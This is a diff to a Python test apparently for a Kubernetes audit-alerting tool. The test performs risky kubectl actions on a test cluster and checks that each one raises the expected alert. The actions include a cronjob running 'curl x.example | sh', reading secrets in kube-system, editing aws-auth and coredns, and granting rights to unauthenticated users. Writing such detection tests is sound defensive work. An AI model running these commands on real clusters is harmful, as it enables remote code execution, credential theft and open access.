@@ -59,6 +59,7 @@ def request(name: str, cluster) -> dict[str, Any]:
     return kind | {"metadata": {"name": name}, "spec": spec}
 
 
+PLATFORM = ("-n", "kube-system")
 CREATE = ("create", "-f", "-")
 DEEDS = [
     Deed("carol", EXEC, ((SHELL, "get"),)),
@@ -126,16 +127,43 @@ DEEDS = [
         ("delete", "--raw=/api/v1/namespaces/default/events"),
         (("Kubernetes events deleted", "deletecollection"),),
     ),
+    Deed(
+        "carol",
+        ("delete", "--raw=/api/v1/namespaces/default/configmaps?labelSelector=of=nobody"),
+        (("Many objects deleted in one request", "deletecollection"),),
+    ),
+    Deed("carol", ("create", "secret", "generic", "key", *PLATFORM), ()),
+    Deed("carol", ("get", "secret", "key", *PLATFORM), (("Secrets read in a sensitive namespace", "get"),)),
+    Deed(
+        "carol",
+        ("create", "configmap", "aws-auth", *PLATFORM),
+        (("Identity mapping of the cloud provider changed", "create"),),
+    ),
+    Deed("carol", ("create", "configmap", "coredns", *PLATFORM), (("Cluster DNS changed", "create"),)),
+    Deed(
+        "carol",
+        ("create", "cronjob", "sync", "--image=a", "--schedule=0 0 1 1 *", "--", "sh", "-c", "curl x.example | sh"),
+        (("Scheduled job fetches and runs code", "create"),),
+    ),
+    Deed(
+        "carol",
+        ("create", "clusterrolebinding", "open", "--clusterrole=view", "--group=system:unauthenticated"),
+        (("Anonymous users granted rights", "create"),),
+    ),
 ]
 
-# What set_up, forward and the one without a credential set off.
+# What the rest of the test sets off.
 MEANWHILE = [
     ("Cluster administrator granted", "kubernetes-admin", "create"),
     ("Workload placed beside the control plane", "kubernetes-admin", "create"),
+    (SHELL, CAROL, "get"),
     (TUNNEL, CAROL, "get"),
     (TUNNEL, CAROL, "create"),
     ("Anonymous request refused", NOBODY, "list"),
     ("Secrets listed across namespaces", NOBODY, "list"),
+    ("Anonymous request succeeded", NOBODY, "list"),
+    ("Service account token made by hand", "kubernetes-admin", "create"),
+    ("Service account asks what it may do", "system:serviceaccount:default:default", "create"),
 ]
 
 
@@ -161,14 +189,26 @@ def do(cluster, deed: Deed) -> None:
 
 def forward(cluster, **env: str) -> None:
     """Open a tunnel to a pod and send a request through it."""
-    command = ["port-forward", "-n", "kube-system", "pod/db-0", ":2379"]
-    with cluster.popen("carol", *command, **env) as process:
-        try:
-            said = process.stdout.readline()
-            port = said.split(":")[1].split()[0]
-            assert httpx.get(f"http://127.0.0.1:{port}/health").json()["health"] == "true"
-        finally:
-            process.terminate()
+    with cluster.opened("carol", "port-forward", *PLATFORM, "pod/db-0", ":2379", **env) as process:
+        port = process.stdout.readline().split(":")[1].split()[0]
+        assert httpx.get(f"http://127.0.0.1:{port}/health").json()["health"] == "true"
+
+
+def attach(cluster, watcher, until) -> None:
+    """Attach to a pod until lanner has told it."""
+    before = len(watcher.told(SHELL, CAROL))
+    with cluster.opened("carol", "attach", *PLATFORM, "db-0"):
+        until(lambda: len(watcher.told(SHELL, CAROL)) > before, "attach is told while it is open")
+
+
+def ask_as_workload(cluster) -> None:
+    """Use a pod's token to ask what it may do."""
+    token = cluster.kubectl("admin", "create", "token", "default").stdout.strip()
+    with cluster.client() as client:
+        review = {"apiVersion": "authorization.k8s.io/v1", "kind": "SelfSubjectRulesReview"}
+        url = "/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"
+        asked = review | {"spec": {"namespace": "default"}}
+        client.post(url, json=asked, headers={"Authorization": f"Bearer {token}"}).raise_for_status()
 
 
 def told(watcher) -> Counter[tuple[str, str, str]]:
@@ -183,14 +223,17 @@ def test_what_people_do_with_kubectl_is_told_once_and_about_the_right_one(cluste
     watcher.start()
     cluster.start()
     set_up(cluster)
-    expected = Counter(MEANWHILE)
-    for deed in DEEDS:
-        do(cluster, deed)
-        expected.update((rule, f"{deed.user}@example.com", verb) for rule, verb in deed.alerts)
-    forward(cluster)
-    forward(cluster, **SPDY)
     with cluster.client() as nobody:
         assert nobody.get("/api/v1/secrets").status_code == 403
+        expected = Counter(MEANWHILE)
+        for deed in DEEDS:
+            do(cluster, deed)
+            expected.update((rule, f"{deed.user}@example.com", verb) for rule, verb in deed.alerts)
+        assert nobody.get("/api/v1/pods").status_code == 200
+    for env in ({}, SPDY):
+        forward(cluster, **env)
+    attach(cluster, watcher, until)
+    ask_as_workload(cluster)
     cluster.stop()
     events = len(cluster.log.read_bytes().splitlines())
     until(lambda: watcher.archived() == events, f"{events} events are archived")
